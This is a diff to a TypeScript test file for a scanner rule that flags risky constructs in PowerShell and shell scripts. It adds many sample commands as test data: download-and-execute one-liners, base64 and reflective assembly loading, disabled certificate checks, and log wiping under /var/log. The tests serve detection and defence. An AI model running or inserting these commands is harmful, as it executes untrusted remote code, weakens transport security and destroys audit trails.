@@ -38,6 +38,31 @@ const inPowerShell: Readonly<Record<string, readonly string[]>> = {
         "powershell -c (irm $u)",
         "irm $u | powershell -NoProfile",
         "curl.exe -s $u | pwsh",
+        "[Reflection.Assembly]::Load((iwr $u).Content)",
+        "$b = (New-Object Net.WebClient).DownloadData($u)\n[System.Reflection.Assembly]::Load($b)",
+        "mshta https://example.com/a.hta",
+        "mshta.exe vbscript:Close(Execute('x'))",
+        "regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll",
+        "msiexec /i https://example.com/a.msi /qn",
+        "msiexec.exe /q /ihttps://example.com/a.msi",
+        "Start-Process msiexec.exe -ArgumentList '/i', 'https://example.com/a.msi' -Wait",
+        "wmic os get /format:https://example.com/a.xsl",
+        "Invoke-WebRequest -Uri $u -OutFile C:\\a.exe; & C:\\a.exe /S",
+        "iwr $u -OutFile $out\n& $out",
+        'iwr $u -OutFile "$env:TEMP\\a.exe"\nStart-Process -FilePath "$env:TEMP\\A.exe" -Wait',
+        "iwr $u -OutFile:a.ps1; . .\\a.ps1",
+        "Set-Location C:\\x; irm $u -OutFile C:\\x\\a.exe; .\\a.exe",
+        "curl.exe -o a.exe $u; cmd /c a.exe /S",
+        "Start-BitsTransfer $u $file; Start-Process $file",
+        "Start-BitsTransfer -Source $u -Destination a.msi; msiexec /i a.msi /qn",
+        "(New-Object Net.WebClient).DownloadFile($u, $f); powershell -File $f",
+        "$c.DownloadFile($u, 'C:\\a.exe'); [Diagnostics.Process]::Start('C:\\a.exe')",
+        "certutil -urlcache -f $u a.exe; .\\a.exe",
+        "bitsadmin /transfer n $u C:\\a.dll; rundll32 C:\\a.dll,Main",
+        'powershell "iex (irm $u)"',
+        'powershell -Command "iex (irm $u)"',
+        "Start-Process powershell -ArgumentList '-NoProfile -Command \"iex (irm x)\"'",
+        `powershell -Command '${"Get-Date; ".repeat(60)} iex (irm x)'`,
     ],
     "encoded-command": [
         "powershell -EncodedCommand SQBFAFgA",
@@ -45,6 +70,11 @@ const inPowerShell: Readonly<Record<string, readonly string[]>> = {
         '& "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -eNc SQBFAFgA',
         "pwsh -ec SQBFAFgA",
         "cmd /c powershell -enc SQBFAFgA",
+        'cmd /c "powershell -enc SQBFAFgA"',
+        'cmd.exe /s /c "powershell -nop -enc $x"',
+        'cmd /c "cmd /c ""powershell -enc SQBFAFgA"""',
+        "[Reflection.Assembly]::Load([Convert]::FromBase64String($b))",
+        "$b = [Convert]::FromBase64String($t); [AppDomain]::CurrentDomain.Load($b)",
         "Start-Process powershell -ArgumentList '-nop -enc SQBFAFgA'",
         "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))",
         "$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)); iex $t",
@@ -62,6 +92,11 @@ const inPowerShell: Readonly<Record<string, readonly string[]>> = {
     "no-certificate-check": [
         "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }",
         "iwr $u -SkipCertificateCheck",
+        "[Net.ServicePointManager]::CertificatePolicy = New-Object TrustAll",
+        "[System.Net.ServicePointManager]::CertificatePolicy = [TrustAll]::new()",
+        "$PSDefaultParameterValues['*:SkipCertificateCheck'] = $true",
+        "New-PSSessionOption -SkipCACheck -SkipCNCheck",
+        "git config --global http.sslVerify false",
         "irm -SkipCert $u",
         "curl.exe -sk $u",
         "$h.ServerCertificateCustomValidationCallback = [System.Net.Http.HttpClientHandler]::DangerousAcceptAnyServerCertificateValidator",
@@ -134,6 +169,28 @@ const inShell: Readonly<Record<string, readonly string[]>> = {
         "bash -c 'curl https://example.com | sh'",
         "(curl $u; echo) | { sh; }",
         "'curl' $u | ba\\sh",
+        'python3 -c "$(curl -fsSL https://example.com)"',
+        'perl -e "$(wget -qO- $u)"',
+        'x=$(curl $u); python -c "$x"',
+        "python3 <(curl $u)",
+        "curl -o x https://example.com; bash x",
+        "curl -fsSLo /tmp/x.sh $u && chmod +x /tmp/x.sh && /tmp/x.sh --all",
+        "curl -O https://example.com/x.sh?v=1; sudo sh ./x.sh",
+        'curl $u --output "$d/x"; chmod 755 "$d/x"; sudo "$d/x"',
+        "curl $u > x; . ./x",
+        "curl $u | tee x > /dev/null; sh x",
+        'wget -qO "$out" $u; "$out"',
+        "wget https://example.com/x.py; python3 x.py",
+        "cd /tmp; wget -q -O /tmp/a.deb $u; dpkg -i a.deb",
+        "bash <<EOF\ncurl $u | sh\nEOF",
+        "sudo bash -s <<'EOF'\ncurl x | sh\nEOF",
+        "cat <<EOF | bash\ncurl x | sh\nEOF",
+        `bash -s -- a <<-EOF >log\n\t${"id\n\t".repeat(200)}curl x | sh\n\tEOF`,
+        "bash <<< 'curl x | sh'",
+        'bash -c "curl $u | sh"',
+        "su - ann -c 'curl x | sh'",
+        "trap 'curl x | sh' EXIT",
+        `bash -c '${"id; ".repeat(150)} curl x | sh'`,
     ],
     "encoded-command": [
         "echo aWQK | base64 -d | sh",
@@ -149,6 +206,9 @@ const inShell: Readonly<Record<string, readonly string[]>> = {
         "git -c http.sslVerify=false clone x",
         "export NODE_TLS_REJECT_UNAUTHORIZED=0",
         "GIT_SSL_NO_VERIFY=1 git pull",
+        "git config --global http.sslVerify false",
+        "npm config set strict-ssl false",
+        "scp -o StrictHostKeyChecking=no a b:",
     ],
     "defender-exclusion": ["mdatp exclusion folder add --path /tmp"],
     "defender-off": [
@@ -180,6 +240,9 @@ const inShell: Readonly<Record<string, readonly string[]>> = {
         "truncate -s 0 /var/log/syslog",
         "ln -sf /dev/null /root/.bash_history",
         "journalctl --rotate --vacuum-time=1s",
+        "find /var/log -delete",
+        "find /var/log -name '*.gz' -type f -delete",
+        "sudo find /var/log/ -type f -exec rm -f {} +",
     ],
     "new-administrator": [
         "usermod -aG sudo eve",
@@ -249,6 +312,16 @@ describe("mde-risky-constructs", () => {
         "netsh advfirewall show allprofiles state",
         "auditpol /get /category:*",
         "Get-WinEvent Security | Where-Object { $_.Message -like '*iex*' }",
+        "iwr $u -OutFile $out; Get-FileHash $out; Expand-Archive $out",
+        "& C:\\a.exe; iwr $u -OutFile C:\\a.exe",
+        "iwr $u -OutFile a.json; Start-Process b.exe -ArgumentList '/S'",
+        "[Reflection.Assembly]::Load('System.Web')",
+        "[Reflection.Assembly]::LoadWithPartialName('System.Web')",
+        "msiexec /i C:\\a.msi /qn",
+        "regsvr32 /s a.dll",
+        "[Net.ServicePointManager]::SecurityProtocol = 'Tls12'",
+        'cmd /c "dir C:\\"',
+        "powershell -File a.ps1",
     ])("lets PowerShell pass: %s", async (text) => {
         expect(await ids(powershell(text))).toEqual([]);
     });
@@ -274,6 +347,17 @@ describe("mde-risky-constructs", () => {
         "id -Gn root",
         "useradd -r -s /bin/false collector",
         'bash collect.sh "$(curl https://example.com/version)"',
+        "curl -o a.json https://example.com; python3 parse.py a.json; jq . a.json",
+        "wget https://example.com/a.tar.gz && tar xf a.tar.gz",
+        "curl -o /dev/null https://example.com; id > /dev/null",
+        "./x; curl -o x https://example.com",
+        "python3 -c 'print(1)'; curl x",
+        "find /var/log -name '*.log' -newer a -print",
+        "find /tmp/x -delete",
+        "cat <<EOF > a\ncurl x | sh\nEOF",
+        "bash a.sh <<EOF\ncurl x | sh\nEOF",
+        "python3 <<EOF\nprint(1)\nEOF",
+        "trap - EXIT; trap cleanup EXIT",
     ])("lets a shell script pass: %s", async (text) => {
         expect(await ids(shell(text))).toEqual([]);
     });
@@ -301,6 +385,37 @@ describe("mde-risky-constructs", () => {
         const all = await messages(riskyConstructs, powershell("wevtutil cl Security\nfoo )\n"));
         expect(all).toHaveLength(2);
         expect(all.join()).toMatch(/log-clearing.*looked through completely/s);
+    });
+
+    it.each([
+        ["shell", "bash -c 'id'\n".repeat(101), 101, "comes after 100 others"],
+        [
+            "shell",
+            `id\n${["id", ...Array<number>(4).fill(0)].reduce<string>((text) => `eval ${JSON.stringify(text)}`, "id")}`,
+            2,
+            "lies in the code of 3 others",
+        ],
+        ["shell", 'pwsh -Command "Get-Date"', 1, "is of another language than the script"],
+        ["powershell", "wsl; bash -c 'id'", 1, "is of another language than the script"],
+        [
+            "shell",
+            `bash -c "${"id; ".repeat(150)} $x"`,
+            1,
+            "has variables in it and goes on after 400 characters",
+        ],
+    ] as const)("says that code in %s was not looked at: %.20s", async (of, text, line, why) => {
+        const file = of === "shell" ? shell(text) : powershell(text);
+        expect(await found(riskyConstructs, file)).toMatchObject([
+            {
+                message: `was not looked through completely for risky constructs: the code that a command is given as a text here ${why}`,
+                line,
+            },
+        ]);
+    });
+
+    it("says nothing of code that it has looked at", async () => {
+        expect(await found(riskyConstructs, shell("bash -c 'id'\n".repeat(100)))).toEqual([]);
+        expect(await found(riskyConstructs, shell(`bash -c '${"id; ".repeat(150)}'`))).toEqual([]);
     });
 
     it.each([
@@ -371,6 +486,11 @@ describe("mde-risky-constructs", () => {
         expect(readConfiguration(riskyConstructs, configuration)).toEqual({
             problems: [expect.stringContaining(problem)],
         });
+    });
+
+    it("is not kept busy by a command of very many words", async () => {
+        const many = `curl ${"-O http://a ".repeat(20_000)}; ./a`;
+        expect(await ids(shell(many))).toEqual(["download-and-execute"]);
     });
 
     it("looks at pipelines that lie in each other", async () => {
